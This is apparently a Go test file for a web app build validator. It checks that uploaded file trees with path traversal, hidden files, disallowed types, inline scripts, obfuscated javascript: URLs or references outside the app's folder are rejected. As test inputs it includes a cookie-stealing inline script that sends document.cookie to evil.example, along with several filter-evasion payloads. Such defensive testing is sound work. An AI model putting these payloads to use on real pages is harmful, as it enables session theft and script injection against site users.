package build_test

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/forgeai/platform/internal/build"
)

const page = `<!doctype html><html><head><title>T</title><script src="app.js"></script></head><body><p>hi</p></body></html>`

// tree is a valid app plus extra files.
func tree(extra ...build.File) []build.File {
	return append([]build.File{
		{Path: "index.html", Content: []byte(page)},
		{Path: "app.js", Content: []byte("console.log(1)")},
	}, extra...)
}

// withPage is a tree whose index.html is page with old replaced by new.
func withPage(old, new string) []build.File {
	files := tree()
	files[0].Content = []byte(strings.Replace(page, old, new, 1))
	return files
}

func file(path, content string) build.File { return build.File{Path: path, Content: []byte(content)} }

func many(n int) []build.File {
	files := tree()
	for i := range n {
		files = append(files, file(fmt.Sprintf("f%03d.txt", i), "x"))
	}
	return files
}

// wantFileError asserts err is a *ValidationError with an entry for path
// whose reason contains reason.
func wantFileError(t *testing.T, err error, path, reason string) {
	t.Helper()
	var verr *build.ValidationError
	if !errors.As(err, &verr) {
		t.Fatalf("Validate = %v, want a *build.ValidationError", err)
	}
	for _, fe := range verr.Errors {
		if fe.Path == path && strings.Contains(fe.Reason, reason) {
			return
		}
	}
	t.Fatalf("no error for %s containing %q in: %v", path, reason, err)
}

func TestValidateNamesTheFileAtFault(t *testing.T) {
	const mib = 1 << 20
	tests := []struct {
		name, path, reason string
		files              []build.File
	}{
		{"empty tree", "(tree)", "empty", nil},
		{"no index", "index.html", "missing", []build.File{file("app.js", "x")}},
		{"index not at root", "index.html", "missing", []build.File{file("site/index.html", page)}},
		{"traversal", "../evil.js", "..", tree(file("../evil.js", "x"))},
		{"inner traversal", "a/../../b.js", "..", tree(file("a/../../b.js", "x"))},
		{"absolute", "/etc/passwd.txt", "relative", tree(file("/etc/passwd.txt", "x"))},
		{"backslash", `a\b.js`, "forward slashes", tree(file(`a\b.js`, "x"))},
		{"NUL", "a\x00.js", "control characters", tree(file("a\x00.js", "x"))},
		{"newline", "a\nb.js", "control characters", tree(file("a\nb.js", "x"))},
		{"hidden file", ".env.txt", "hidden", tree(file(".env.txt", "x"))},
		{"hidden folder", "a/.git/config.txt", "hidden", tree(file("a/.git/config.txt", "x"))},
		{"unclean", "a//b.js", "not clean", tree(file("a//b.js", "x"))},
		{"dot segment", "./b.js", "not clean", tree(file("./b.js", "x"))},
		{"too long", strings.Repeat("a", 198) + ".js", "longer than 200", tree(file(strings.Repeat("a", 198)+".js", "x"))},
		{"type", "run.sh", `".sh" is not allowed`, tree(file("run.sh", "x"))},
		{"no extension", "Makefile", "not allowed", tree(file("Makefile", "x"))},
		{"duplicate", "app.js", "more than once", tree(file("app.js", "y"))},
		{"duplicate by case", "APP.js", "more than once", tree(file("APP.js", "x"))},
		{"file too big", "big.txt", "over the limit", tree(build.File{Path: "big.txt", Content: bytes.Repeat([]byte("a"), mib+1)})},
		{"tree too big", "(tree)", "in all exceed", func() []build.File {
			files := tree()
			for i := range 11 {
				files = append(files, build.File{Path: fmt.Sprintf("p%d.png", i), Content: make([]byte, mib)})
			}
			return files
		}()},
		{"too many files", "(tree)", "201 files exceed the limit of 200", many(199)},
		{"css not utf8", "x.css", "UTF-8", tree(build.File{Path: "x.css", Content: []byte{0xff, 0xfe}})},
		{"svg not utf8", "x.svg", "UTF-8", tree(build.File{Path: "x.svg", Content: []byte{'<', 0xc3}})},
		{"bad json", "d.json", "JSON", tree(file("d.json", "{"))},
		{"bad source map", "app.js.map", "JSON", tree(file("app.js.map", "not json"))},
		{"svg script", "i.svg", "scripts", tree(file("i.svg", "<svg><SCRIPT>x</SCRIPT></svg>"))},
		{"not html", "index.html", "not an HTML document", []build.File{file("index.html", "just text <title>t</title>")}},
		{"no title", "index.html", "no <title>", []build.File{file("index.html", "<!doctype html><html><body></body></html>")}},
		{"second page checked", "about.html", "no <title>", tree(file("about.html", "<!doctype html><p>x</p>"))},
		{"remote script https", "index.html", "remote script https://cdn.example.com/x.js is not allowed", withPage(`src="app.js"`, `src="https://cdn.example.com/x.js"`)},
		{"remote script http", "index.html", "remote script", withPage(`src="app.js"`, `src="HTTP://cdn.example.com/x.js"`)},
		{"protocol-relative script", "index.html", "remote script //cdn.example.com/x.js", withPage(`src="app.js"`, `src="//cdn.example.com/x.js"`)},
		{"backslash-relative script", "index.html", "remote script", withPage(`src="app.js"`, `src="/\cdn.example.com/x.js"`)},
		{"data script", "index.html", "remote script data:", withPage(`src="app.js"`, `src="data:text/javascript,alert(1)"`)},
		{"inline handler", "index.html", "inline event handler onclick= on <p>", withPage("<p>", `<p onclick="x()">`)},
		{"handler says why", "index.html", "Content-Security-Policy", withPage("<p>", `<img src="a.png" ONERROR="x()">`)},
		{"javascript href", "index.html", "javascript: URL in <a href>", withPage("<p>", `<a href="javascript:x()">`)},
		{"obfuscated javascript", "index.html", "javascript: URL", withPage("<p>", "<a href=\" JaVa\tScRipt:x()\">")},
		{"entity javascript", "index.html", "javascript: URL", withPage("<p>", `<a href="&#106;avascript:x()">`)},
		{"javascript action", "index.html", "javascript: URL in <form action>", withPage("<p>", `<form action="javascript:x()">`)},
		{"javascript iframe", "index.html", "javascript: URL in <iframe src>", withPage("<p>", `<iframe src="javascript:x()">`)},
		{"inline script", "index.html", "inline <script> is not allowed", withPage("<p>", `<script>fetch("//evil.example/?c="+document.cookie)</script><p>`)},
		{"inline module", "index.html", "inline <script>", withPage("<p>", `<script type="module">import("./a.js")</script><p>`)},
		{"inline script typed", "index.html", "inline <script>", withPage("<p>", `<script type=" Text/JavaScript; charset=utf-8">x()</script><p>`)},
		{"inline import map", "index.html", "inline <script>", withPage("<p>", `<script type="importmap">{"imports":{}}</script><p>`)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			wantFileError(t, build.Validate(tc.files, build.DefaultLimits()), tc.path, tc.reason)
		})
	}
}

func TestValidateAccepts(t *testing.T) {
	allowRemote := build.DefaultLimits()
	allowRemote.AllowRemoteScripts = true
	tests := []struct {
		name  string
		files []build.File
		lim   build.Limits
	}{
		{"minimal app", tree(), build.DefaultLimits()},
		{"html element without doctype", []build.File{file("index.html", "<html><title>t</title></html>")}, build.DefaultLimits()},
		{"every allowed type", tree(
			file("a/b/styles.css", "p{}"), file("data.json", "\xEF\xBB\xBF{}"), file("app.js.map", "{}"), file("i.svg", "<svg/>"),
			file("img/a.png", "\x89PNG"), file("a.jpg", "x"), file("a.jpeg", "x"), file("a.gif", "x"), file("a.webp", "x"),
			file("favicon.ico", "x"), file("robots.txt", "x"), file("f.woff2", "x"), file("UPPER.JS", "x"),
		), build.DefaultLimits()},
		{"exactly 200 files", many(198), build.DefaultLimits()},
		{"200-character path", tree(file(strings.Repeat("é", 197)+".js", "x")), build.DefaultLimits()},
		{"relative and root-relative links", append(withPage("<p>", `<a href="/about.html"><img src="img/a.png"><form action="submit">`),
			file("about.html", page)), build.DefaultLimits()},
		{"word javascript in text", withPage("<p>hi", "<p>javascript: is blocked; onclick= too"), build.DefaultLimits()},
		{"script data blocks and an empty script", withPage("<p>", `<script type="application/json">{"a":1}</script>`+
			`<script type="application/ld+json">{}</script><script> </script><p>`), build.DefaultLimits()},
		{"remote script when allowed", withPage(`src="app.js"`, `src="https://cdn.example.com/x.js"`), allowRemote},
		{"zero limits mean unlimited", many(300), build.Limits{}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if err := build.Validate(tc.files, tc.lim); err != nil {
				t.Fatalf("Validate = %v, want nil", err)
			}
		})
	}
}

func TestValidationErrorListsEveryFileSortedByPath(t *testing.T) {
	files := append(withPage("<p>", `<p onclick="x()">`), file("z.sh", "x"), file("b.json", "{"), file("a.exe", "x"))
	err := build.Validate(files, build.DefaultLimits())
	var verr *build.ValidationError
	if !errors.As(err, &verr) {
		t.Fatalf("Validate = %v", err)
	}
	var paths []string
	for _, fe := range verr.Errors {
		paths = append(paths, fe.Path)
	}
	if got, want := strings.Join(paths, ","), "a.exe,b.json,index.html,z.sh"; got != want {
		t.Errorf("paths = %s, want %s", got, want)
	}
	if got := verr.Errors[0].Error(); got != `a.exe: file type ".exe" is not allowed` {
		t.Errorf("FileError.Error() = %q", got)
	}
	for _, p := range paths {
		if !strings.Contains(err.Error(), p+": ") {
			t.Errorf("ValidationError.Error() does not list %s: %q", p, err)
		}
	}
}

func TestBundleIsDeterministic(t *testing.T) {
	bom := "\xEF\xBB\xBF"
	input := func() []build.File {
		return []build.File{
			file("index.html", bom+strings.ReplaceAll(page, "><", ">\r\n<")),
			file("app.js", "console.log(1)\r\nconsole.log(2)"),
			file("data.json", bom+"{\"a\":1}\r\n"),
			{Path: "logo.png", Content: []byte{0x89, 'P', 'N', 'G', '\r', '\n', 0xEF, 0xBB, 0xBF}},
			file("img/empty.txt", ""),
		}
	}
	a := input()
	b := []build.File{a[3], a[4], a[0], a[2], a[1]}
	pristine := input()
	outA, err := build.Bundle(a, build.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	outB, err := build.Bundle(b, build.DefaultLimits())
	if err != nil {
		t.Fatal(err)
	}
	if len(outA) != len(outB) {
		t.Fatalf("bundles have %d and %d files", len(outA), len(outB))
	}
	for i := range outA {
		if outA[i].Path != outB[i].Path || !bytes.Equal(outA[i].Content, outB[i].Content) {
			t.Fatalf("bundles differ at %s", outA[i].Path)
		}
	}
	want := map[string]string{
		"app.js":        "console.log(1)\nconsole.log(2)\n",
		"data.json":     "{\"a\":1}\n",
		"img/empty.txt": "",
		"index.html":    strings.ReplaceAll(page, "><", ">\n<") + "\n",
		"logo.png":      string(pristine[3].Content),
	}
	order := []string{"app.js", "data.json", "img/empty.txt", "index.html", "logo.png"}
	for i, f := range outA {
		if f.Path != order[i] {
			t.Fatalf("file %d is %s, want %s (sorted by path)", i, f.Path, order[i])
		}
		if string(f.Content) != want[f.Path] {
			t.Errorf("%s = %q, want %q", f.Path, f.Content, want[f.Path])
		}
	}
	for i := range a {
		if a[i].Path != pristine[i].Path || !bytes.Equal(a[i].Content, pristine[i].Content) {
			t.Errorf("input %s was modified", pristine[i].Path)
		}
	}
	outA[0].Content[0] = 'X'
	if a[1].Content[0] == 'X' {
		t.Error("output shares memory with the input")
	}
}

func TestBundleRefusesInvalidTrees(t *testing.T) {
	out, err := build.Bundle(tree(file("run.sh", "x")), build.DefaultLimits())
	if out != nil {
		t.Error("Bundle returned files for an invalid tree")
	}
	wantFileError(t, err, "run.sh", "not allowed")
}

// An app may reference only its own files: whatever wrote the file (a
// template's scaffold, the AI provider), a URL that reaches for another app
// fails the build and names the file and the URL.
func TestValidateRefusesReferencesOutsideTheApp(t *testing.T) {
	inPage := func(markup string) []build.File { return withPage("<p>", markup) }
	nested := func(path, content string) []build.File { return tree(file(path, content)) }
	tests := []struct {
		name, path, reason string
		files              []build.File
	}{
		{"script of another app", "index.html", `<script src="../other-slug/x.js"> leaves the app's folder`, withPage(`src="app.js"`, `src="../other-slug/x.js"`)},
		{"dot dot after a folder", "index.html", "leaves the app's folder", withPage(`src="app.js"`, `src="js/../../other/x.js"`)},
		{"encoded dots", "index.html", "leaves the app's folder", withPage(`src="app.js"`, `src="%2e%2e/other/x.js"`)},
		{"encoded slash", "index.html", "leaves the app's folder", withPage(`src="app.js"`, `src="..%2fother%2fx.js"`)},
		{"backslashes", "index.html", "leaves the app's folder", withPage(`src="app.js"`, `src="..\other\x.js"`)},
		{"whitespace and tabs", "index.html", "leaves the app's folder", withPage(`src="app.js"`, "src=\" .\t./other/x.js\"")},
		{"absolute path to another app", "index.html", "absolute path that names no file of this app", withPage(`src="app.js"`, `src="/other-slug/x.js"`)},
		{"absolute path to a preview", "index.html", "absolute path", inPage(`<iframe src="/_d/0190a4c2-7d3e-7b1a-9c4d-2f6e8a1b3c5d/">`)},
		{"absolute path climbing", "index.html", "leaves the app's folder", inPage(`<img src="/../other/a.png">`)},
		{"protocol-relative link", "index.html", "protocol-relative", inPage(`<a href="//other.apps.example.com/">`)},
		{"protocol-relative image", "index.html", "protocol-relative", inPage(`<img src="//evil.example.com/a.png">`)},
		{"link to another app", "index.html", "<a href", inPage(`<a href="../other-slug/">`)},
		{"style sheet", "index.html", "<link href", inPage(`<link rel="stylesheet" href="../other/s.css">`)},
		{"form", "index.html", "<form action", inPage(`<form action="../other/submit">`)},
		{"srcset", "index.html", "<img srcset> URL \"../o/b.png\"", inPage(`<img src="a.png" srcset="a.png 1x, ../o/b.png 2x">`)},
		{"object data", "index.html", "<object data", inPage(`<object data="../o/x.svg">`)},
		{"svg use", "index.html", "<use xlink:href", inPage(`<svg><use xlink:href="../o/i.svg#x"></use></svg>`)},
		{"meta refresh", "index.html", "<meta http-equiv=refresh>", inPage(`<meta http-equiv="refresh" content="0; url=../other/">`)},
		{"style attribute", "index.html", "<div style> URL", inPage(`<div style="background:url('../o/a.png')">`)},
		{"style element", "index.html", "<style> URL", inPage(`<style>body{background:url(../o/a.png)}</style>`)},
		{"nested page", "a/b.html", "leaves the app's folder", nested("a/b.html", strings.Replace(page, `src="app.js"`, `src="../../x.js"`, 1))},
		{"css url", "s/site.css", `style sheet URL "../../o/a.png"`, nested("s/site.css", "body{background:url( \"../../o/a.png\" )}")},
		{"css import", "site.css", "style sheet URL", nested("site.css", `@import "../o/s.css";`)},
		{"css protocol-relative", "site.css", "protocol-relative", nested("site.css", `p{background:url(//evil.example.com/a.png)}`)},
		{"js import", "app2.js", `script module "../other/x.js"`, nested("app2.js", `import { steal } from "../other/x.js";`)},
		{"js dynamic import", "app2.js", "script module", nested("app2.js", `const m = await import('../other/x.js');`)},
		{"js side-effect import", "app2.js", "script module", nested("app2.js", "import `/other/x.js`;")},
		{"js worker", "app2.js", "script module", nested("app2.js", `new Worker("../other/w.js")`)},
		{"svg image", "i.svg", "<image href", nested("i.svg", `<svg><image href="../o/a.png"/></svg>`)},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			wantFileError(t, build.Validate(tc.files, build.DefaultLimits()), tc.path, tc.reason)
		})
	}
}

func TestValidateAcceptsReferencesInsideTheApp(t *testing.T) {
	files := []build.File{
		file("index.html", `<!doctype html><html><head><title>T</title><link rel="stylesheet" href="css/site.css"><script src="./app.js"></script>
<meta http-equiv="refresh" content="600; url=./">
</head><body><a href="/">home</a> <a href="/docs/">docs</a> <a href="/docs">docs</a> <a href="docs/?q=1#top">docs</a> <a href="#main">skip</a>
<a href="?page=2">next</a> <a href="https://example.com/">out</a> <a href="mailto:a@example.com">mail</a> <img src="img/a.png" srcset="img/a.png 1x, /img/a.png 2x">
<img src="data:image/png;base64,AAAA"> <a href="/img/a.png">logo</a> <div style="background:url(img/a.png)"></div> <a href="img/../docs/">d</a></body></html>`),
		file("docs/index.html", strings.Replace(page, `src="app.js"`, `src="../app.js"`, 1)),
		file("css/site.css", `@import "base.css"; body{background:url("../img/a.png")} p{background:url(data:image/png;base64,AA)} a{background:url(/img/a.png)}`),
		file("css/base.css", "p{}"),
		file("app.js", `import { x } from "./lib/x.js"; import("./lib/y.js"); const s = "import from ../../nowhere"; console.log(x)`),
		file("lib/x.js", `export * from "../app.js"; export const x = 1`),
		file("lib/y.js", `export default 1`),
		file("img/a.png", "\x89PNG"),
		file("i.svg", `<svg><use href="#shape"/><image href="img/a.png"/></svg>`),
	}
	if err := build.Validate(files, build.DefaultLimits()); err != nil {
		t.Fatalf("Validate = %v, want nil", err)
	}
}
